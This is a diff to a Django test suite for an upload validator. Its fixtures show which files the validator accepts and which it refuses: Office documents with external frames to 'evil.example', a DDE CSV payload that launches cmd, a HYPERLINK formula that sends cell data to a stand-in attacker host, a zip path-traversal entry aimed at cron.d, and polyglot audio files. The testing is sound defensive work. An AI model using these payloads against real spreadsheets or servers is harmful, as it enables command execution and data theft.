@@ -1,17 +1,18 @@
 """What comes in as a file, and what does not."""
 
 import io
-import zipfile
+from pathlib import Path
 
 import pikepdf
 import pytest
 from django.core.exceptions import ValidationError
-from django.core.files.uploadedfile import SimpleUploadedFile
+from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile
 from django.urls import reverse
 from PIL import Image
 
 from resources.files import checking
 from resources.files.checking import validate_file
+from resources.files.uploads import CappedUploadHandler
 from resources.models import Edition
 from tests.factories import MemberFactory, ResourceFactory
 from tests.resources import hostile
@@ -25,6 +26,11 @@ HARMLESS = {
     "text.odt": hostile.open_document,
     "data.csv": lambda: "país;año\nTúnez;2024\n".encode("cp1252"),
     "map.png": lambda: hostile.image("PNG"),
+    "chart.pptx": lambda: hostile.holding("Microsoft_Excel_Sheet.xlsx", hostile.workbook()),
+    "linked.docx": lambda: hostile.relating("hyperlink", "https://www.ilo.org/"),
+    "page.docx": lambda: hostile.asking(" PAGE ", " MERGEFORMAT "),
+    "sums.csv": lambda: b"a,b\n-5,+1\n=SUM(A1:A2),a|b\n",
+    "two.jpg": lambda: hostile.image("MPO", save_all=True, append_images=[Image.new("RGB", (40, 30))]),
     "photo.jpg": hostile.photo,
     "photo.jpeg": lambda: hostile.image("JPEG"),
     "talk.mp3": hostile.sound,
@@ -49,7 +55,42 @@ HARMFUL = [
     ("picture.gif.png", lambda: hostile.image("GIF"), "mislabelled"),
     ("macros.docx", hostile.with_macros, "macros"),
     ("macros.odt", lambda: hostile.open_document(**{"Basic/Standard/Module1.xml": b"<m/>"}), "macros"),
-    ("template.docx", hostile.with_remote_template, "fetching"),
+    ("frame.docx", lambda: hostile.relating("frame", "https://evil.example/"), "fetching"),
+    ("prefix.docx", lambda: hostile.relating("frame", "https://evil.example/", prefix="p"), "fetching"),
+    ("letter.docx", lambda: hostile.relating("frame", "https://evil.example/", mode="Extern&#97;l"), "fetching"),
+    ("utf16.docx", lambda: hostile.relating("frame", "https://evil.example/", encoding="utf-16"), "fetching"),
+    ("no-mode.docx", lambda: hostile.relating("frame", "https://evil.example/", mode="Internal"), "fetching"),
+    ("utf7.docx", lambda: hostile.relating("frame", "https://evil.example/", encoding="utf-7"), "active"),
+    ("ole.docx", lambda: hostile.relating("oleObject", "embeddings/a.bin", mode="Internal"), "active"),
+    ("page.docx", lambda: hostile.relating("aFChunk", "a.mht", mode="Internal"), "active"),
+    ("program.pptx", lambda: hostile.holding("a.bin", b"MZ\x90\x00" * 9), "active"),
+    ("old.pptx", lambda: hostile.holding("a.bin", b"\xd0\xcf\x11\xe0" * 9), "active"),
+    ("archive.pptx", lambda: hostile.holding("a.bin", hostile.archive({"a": b"MZ"})), "active"),
+    ("macros.pptx", lambda: hostile.holding("a.docx", hostile.with_macros()), "macros"),
+    ("deep.pptx", lambda: hostile.holding("a.pptx", hostile.holding("b.xlsx", hostile.workbook())), "active"),
+    ("fetches.pptx", lambda: hostile.holding("a.docx", hostile.relating("image", "https://evil.example/")), "fetching"),
+    ("drawing.pptx", lambda: hostile.holding("a.svg", b"<svg onload='x()'/>"), "active"),
+    ("starts.docx", lambda: hostile.asking(" DD", "EAUTO ", "cmd "), "fetching"),
+    ("twice.docx", lambda: hostile.with_parts(hostile.word(), {"WORD/document.xml": b"<w/>"}), "broken"),
+    ("data.xlsx", lambda: hostile.with_parts(hostile.workbook(), {"xl/connections.xml": b"<c/>"}), "fetching"),
+    ("late.docx", hostile.laughing_late, "active"),
+    (
+        "event.odt",
+        lambda: hostile.open_document(**{"content.xml": b'<a xmlns:x="s"><x:event-listener/></a>'}),
+        "macros",
+    ),
+    ("dde.odt", lambda: hostile.open_document(**{"content.xml": b'<a xmlns:x="s"><x:dde-source/></a>'}), "fetching"),
+    (
+        "image.odt",
+        lambda: hostile.open_document(**{"content.xml": b'<image href="https://evil.example"/>'}),
+        "fetching",
+    ),
+    ("ole.odt", lambda: hostile.open_document(Object=b"\xd0\xcf\x11\xe0" * 9), "active"),
+    ("dde.csv", lambda: b"a,b\n1,=cmd|' /C calc'!A0\n", "active"),
+    ("sends.csv", lambda: b'a;b\n"=HYPERLINK(""https://evil.example?""&A1)";1\n', "active"),
+    ("behind.mp3", lambda: hostile.sound() + hostile.archive({"Evil.class": b"x"}), "mislabelled"),
+    ("before.mp3", lambda: b"ID3\x03\x00\x00\x00\x00\x01\x00%PDF-1.4" + b"\x00" * 120 + hostile.sound(), "mislabelled"),
+    ("silent.mp3", lambda: b"ID3<html>" + hostile.SCRIPT * 9, "mislabelled"),
     ("external.xlsx", hostile.with_external_workbook, "fetching"),
     ("laughs.docx", hostile.laughing, "active"),
     ("slip.docx", lambda: hostile.with_parts(hostile.word(), {"../../etc/cron.d/x": b"x"}), "active"),
@@ -112,8 +153,8 @@ def test_a_pdf_with_a_password_is_refused():
         validate_file(upload("secret.pdf", encrypted_pdf()))
 
 
-def test_a_file_that_is_too_large_is_refused_with_the_limit(monkeypatch):
-    monkeypatch.setitem(checking.LIMITS, "csv", 1)
+def test_a_file_that_is_too_large_is_refused_with_the_limit(settings):
+    settings.UPLOAD_LIMITS = settings.UPLOAD_LIMITS | {"document": 1}
 
     with pytest.raises(ValidationError, match=r"The file has 1\.1.*MB\. Files of this type may have up to 1\.0"):
         validate_file(upload("data.csv", b"a,b\n" * 300_000))
@@ -129,82 +170,32 @@ def test_a_child_that_sleeps_is_ended_and_the_next_file_comes_in(monkeypatch):
     validate_file(upload("report.pdf", hostile.pdf()))
 
 
-def test_a_pdf_of_ten_thousand_pages_comes_in(edition):
-    content = stored(edition, "long.pdf", hostile.pdf(10_000))
+def test_an_upload_that_is_too_large_for_any_file_does_not_fill_the_disk(settings):
+    settings.UPLOAD_LIMITS = {"document": 1, "image": 1, "audio": 1}
+    handler = CappedUploadHandler()
+    handler.new_file("file", "talk.mp3", "audio/mpeg", None)
+    for start in range(0, 3 * 1024**2, 64 * 1024):
+        handler.receive_data_chunk(b"\x00" * 64 * 1024, start)
 
-    with pikepdf.open(io.BytesIO(content)) as document:
-        assert len(document.pages) == 10_000
+    upload = handler.file_complete(3 * 1024**2)
 
-
-def test_scripts_programs_and_files_are_taken_out_of_a_pdf_and_links_stay(edition):
-    content = stored(edition, "armed.pdf", hostile.pdf(1, hostile.armed) + hostile.SCRIPT)
-
-    with pikepdf.open(io.BytesIO(content)) as document:
-        document.save(plain := io.BytesIO(), stream_decode_level=pikepdf.StreamDecodeLevel.all, compress_streams=False,
-                      object_stream_mode=pikepdf.ObjectStreamMode.disable)  # fmt: skip
-        links = [str(one.A.URI) for one in document.pages[0].Annots if "/A" in one]
-    text = plain.getvalue()
-    assert [
-        word for word in (b"CANARY", b"/JavaScript", b"/Launch", b"/EmbeddedFile", b"/OpenAction") if word in text
-    ] == []
-    assert links == ["https://www.ilo.org/"]
-    assert hostile.SCRIPT not in content
+    assert Path(upload.temporary_file_path()).stat().st_size == 0
+    with pytest.raises(ValidationError, match=r"The file has 3\.0.*MB\. Files of this type may have up to 1\.0"):
+        validate_file(upload)
+    upload.close()
 
 
-def test_what_hides_behind_a_picture_is_not_stored(edition):
-    content = stored(edition, "gifar.png", hostile.image("PNG") + hostile.archive({"Evil.class": b"CANARY" * 50}))
+def test_a_large_upload_is_looked_at_where_it_lies(edition):
+    upload = TemporaryUploadedFile("report.pdf", "application/pdf", 0, None)
+    upload.write(hostile.pdf(3))
+    upload.size = upload.tell()
+    upload.seek(0)
+    edition.file = upload
 
-    assert b"Evil.class" not in content
-    assert Image.open(io.BytesIO(content)).size == (40, 30)
-
-
-def test_a_photo_loses_its_place_and_stands_upright(edition):
-    content = stored(edition, "photo.jpg", hostile.photo())
-
-    with Image.open(io.BytesIO(content)) as picture:
-        assert (picture.size, dict(picture.getexif())) == ((30, 40), {})
-    assert b"PhoneMaker" not in content
-
-
-@pytest.mark.parametrize(
-    ("name", "make"),
-    [
-        ("signed.pdf", lambda: hostile.pdf(1, hostile.signed_by_ana)),
-        ("signed.docx", hostile.word),
-        ("signed.mp3", lambda: hostile.sound(tagged=True)),
-    ],
-)
-def test_names_are_taken_out_of_a_file_on_request_and_kept_otherwise(edition, name, make):
-    def told(content):
-        if name.endswith("docx"):
-            with zipfile.ZipFile(io.BytesIO(content)) as parts:
-                return any(b"Ana Perez" in parts.read(one) for one in parts.namelist())
-        if name.endswith("pdf"):
-            with pikepdf.open(io.BytesIO(content)) as document:
-                return "Ana Perez" in str(document.docinfo.get("/Author", "")) or "/Metadata" in document.Root
-        return b"Ana Perez" in content
-
-    assert told(stored(edition, name, make()))
-    first = edition.checksum
-
-    edition.is_scrubbed = True
     edition.save()
 
-    with edition.file.open("rb") as opened:
-        assert not told(opened.read())
-    assert edition.checksum == first
-
-
-def test_tracked_changes_and_comments_lose_their_authors(edition):
-    tracked = b'<w:document xmlns:w="urn:w"><w:ins w:id="1" w:author="Ana Perez" w:initials="AP"/></w:document>'
-    comments = b'<w:comments xmlns:w="urn:w"><w:comment w:author="Ana Perez">Hm</w:comment></w:comments>'
-    original = hostile.with_parts(hostile.word(), {"word/document.xml": tracked, "word/comments.xml": comments})
-
-    content = stored(edition, "tracked.docx", original, is_scrubbed=True)
-
-    with zipfile.ZipFile(io.BytesIO(content)) as parts:
-        assert all(b"Ana Perez" not in parts.read(name) for name in parts.namelist())
-        assert b'w:author=""' in parts.read("word/document.xml")
+    with edition.file.open("rb") as opened, pikepdf.open(opened) as document:
+        assert len(document.pages) == 3
 
 
 def test_the_edition_knows_type_checksum_and_size_of_what_is_stored(edition):
